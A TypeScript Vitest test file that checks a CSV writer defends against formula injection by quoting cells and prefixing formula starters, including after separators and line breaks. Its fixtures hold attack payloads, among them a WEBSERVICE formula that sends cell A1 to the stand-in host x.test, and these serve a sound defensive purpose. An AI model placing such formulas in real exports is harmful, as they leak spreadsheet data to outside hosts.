import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvLine } from '../../src/shared/csv';
import { panelCsv } from '../../src/shared/features/overview/overview.domain';

/** The cells a spreadsheet would see if it split the record on `separator`, quotes honoured. */
function cellsAsSplitBy(record: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < record.length; i++) {
    const ch = record[i];
    if (quoted) {
      if (ch === '"' && record[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) {
      cells.push(cell);
      cell = '';
    } else cell += ch;
  }
  cells.push(cell);
  return cells;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('the one CSV writer (decision 0075)', () => {
  it("quotes a cell holding either dialect's separator, so the other dialect's Excel keeps it whole", () => {
    const attack = 'Ayse;=WEBSERVICE("http://x.test/?"&A1)';
    for (const separator of [',', ';'] as const) {
      const record = csvLine(['1', attack], separator).trimEnd();
      for (const splitBy of [',', ';']) {
        for (const cell of cellsAsSplitBy(record, splitBy))
          expect(cell, `${separator} file read with ${splitBy}`).not.toMatch(FORMULA);
      }
    }
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
  });

  it('guards a formula after every separator and line break inside a cell, not only at its start', () => {
    expect(csvCell('Ayse;=1+1')).toBe(`"Ayse;'=1+1"`);
    expect(csvCell('Ayse, @SUM(A1)')).toBe(`"Ayse, '@SUM(A1)"`);
    expect(csvCell('line\n+cmd')).toBe(`"line\n'+cmd"`);
    expect(csvCell('tab\t-2+3')).toBe(`tab\t'-2+3`);
    // Even a spreadsheet that ignored the quotes would find no piece starting a formula.
    for (const text of ['x;=A1', 'x,=A1', 'x\r\n=A1', 'x; ;=A1']) {
      for (const piece of csvCell(text)
        .replace(/^"|"$/g, '')
        .split(/[,;\r\n]/))
        expect(piece.trimStart()).not.toMatch(/^[=+\-@]/);
    }
  });

  it('writes numbers as plain digits and leaves ordinary text alone', () => {
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(1200)).toBe('1200');
    expect(csvCell('Acme LLC')).toBe('Acme LLC');
    expect(csvCell(null)).toBe('');
  });

  it("guards the home's panel tables too: finance edits the service titles they show", () => {
    const en = panelCsv(
      'en',
      ['Service', 'Orders'],
      [
        ['=HYPERLINK("http://x.test")', 3],
        ['Mail; =cmd', 1],
      ],
    );
    expect(en).toBe(`Service,Orders\r\n"'=HYPERLINK(""http://x.test"")",3\r\n"Mail; '=cmd",1\r\n`);
    const tr = panelCsv('tr', ['Hizmet', 'Sipariş'], [['a,=b', null]]);
    expect(tr).toBe(`\uFEFFHizmet;Sipariş\r\n"a,'=b";\r\n`);
    expect(csvDocument('en', ['a'], [])).toBe('a\r\n');
  });

  it('is the only place in the sources that writes CSV quoting', () => {
    const root = path.resolve('src');
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const file = path.join(dir, name);
        if (statSync(file).isDirectory()) walk(file);
        else if (/\.tsx?$/.test(name) && !/\.test\.tsx?$/.test(name)) {
          const text = readFileSync(file, 'utf8');
          if (text.includes(`replace(/"/g, '""')`)) writers.push(path.relative(root, file));
        }
      }
    };
    walk(root);
    expect(writers).toEqual(['shared/csv.ts']);
  });
});
